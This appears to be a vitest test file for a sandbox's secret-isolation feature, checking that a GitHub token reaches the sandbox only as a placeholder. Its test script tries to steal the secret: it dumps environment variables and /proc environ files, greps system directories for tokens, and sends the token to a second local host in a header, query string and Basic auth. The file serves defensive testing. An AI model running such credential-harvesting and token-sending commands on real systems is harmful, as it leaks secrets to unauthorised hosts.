// Secrets never reach the sandbox (issue 12): a sandbox that dumps its environment, its
// files and /proc, and sends its placeholder to another host (in a header, Basic auth, the
// query, after a redirect), never sees or leaks the value; the bound host gets it, and its
// echo comes back scrubbed.

import { existsSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Sandbox, drainWarmPool } from '../node/index.js';
import { placeholderOf } from './secrets.js';

const shellBuilt = existsSync(fileURLToPath(new URL('../../../public/wasm/shell.wasm', import.meta.url)));
const SECRET = 'ghp_s3cr3tValue0123456789';

async function listen(host: string, handler: (req: IncomingMessage, body: string) => [number, Record<string, string>, string]): Promise<{ server: Server; port: number; seen: string[] }> {
  const seen: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
      const [status, headers, text] = handler(req, body);
      res.writeHead(status, headers).end(text);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return { server, port: (server.address() as AddressInfo).port, seen };
}

describe.skipIf(!shellBuilt)('secrets', { timeout: 300_000 }, () => {
  let bound: Awaited<ReturnType<typeof listen>>;
  let other: Awaited<ReturnType<typeof listen>>;

  beforeAll(async () => {
    other = await listen('127.0.0.2', () => [200, {}, 'other']);
    bound = await listen('127.0.0.1', (req) =>
      req.url === '/away' ? [302, { Location: `http://127.0.0.2:${other.port}/after-redirect` }, ''] : [200, { 'X-Echo': req.headers.authorization ?? '' }, `echo ${req.headers.authorization ?? ''}`],
    );
  });

  afterAll(async () => {
    drainWarmPool();
    await Promise.all([bound, other].map(({ server }) => new Promise((r) => server.close(r))));
  });

  it('puts only a placeholder in the sandbox and the value only on the bound host', async () => {
    const sandbox = await Sandbox.create({
      network: {
        allowedHosts: [`127.0.0.1:${bound.port}`, `127.0.0.2:${other.port}`],
        secrets: [{ name: 'GITHUB_TOKEN', value: SECRET, hosts: [`127.0.0.1:${bound.port}`], header: 'Authorization', template: 'Bearer ${GITHUB_TOKEN}' }],
      },
    });
    try {
      const script = [
        'env',
        'cat /proc/self/environ /proc/1/environ 2>&1 | tr "\\0" "\\n"',
        'ls /proc /proc/self 2>&1 | head -50',
        'grep -r "ghp_" /home /tmp /etc 2>/dev/null | head',
        `curl -s -i http://127.0.0.1:${bound.port}/echo; echo`,
        `curl -s -H "Authorization: Bearer $GITHUB_TOKEN" "http://127.0.0.2:${other.port}/h?token=$GITHUB_TOKEN"`,
        `curl -s -u "x-access-token:$GITHUB_TOKEN" http://127.0.0.2:${other.port}/basic`,
        `curl -s -L http://127.0.0.1:${bound.port}/away`,
        `python3 -c "import os, urllib.request; print(os.environ['GITHUB_TOKEN']); print(urllib.request.urlopen('http://127.0.0.1:${bound.port}/py').read().decode())"`,
      ].join('\n');
      const result = await sandbox.run(script, { timeoutMs: 180_000 });
      const everything = result.stdout + result.stderr;
      expect(everything).not.toContain(SECRET);
      expect(everything).not.toContain(Buffer.from(SECRET).toString('base64'));
      expect(everything).toContain(`GITHUB_TOKEN=${placeholderOf('GITHUB_TOKEN')}`);
      // The bound host got the value (added by the host), and its echo came back scrubbed.
      expect(bound.seen.filter((line) => line.includes(`Bearer ${SECRET}`))).toHaveLength(3);
      expect(everything).toContain(`echo Bearer ${placeholderOf('GITHUB_TOKEN')}`);
      expect(everything).toMatch(/x-echo: Bearer airlock-secret:GITHUB_TOKEN/i);
      // The other host got placeholders only: in a header, the query, Basic auth, after a redirect.
      expect(other.seen).toHaveLength(3);
      expect(other.seen.join('\n')).not.toContain(SECRET);
      expect(other.seen.join('\n')).not.toContain(Buffer.from(`x-access-token:${SECRET}`).toString('base64'));
      expect(other.seen.find((line) => line.startsWith('GET /after-redirect'))).not.toMatch(/authorization/i);
    } finally {
      await sandbox.destroy();
    }
  });
});
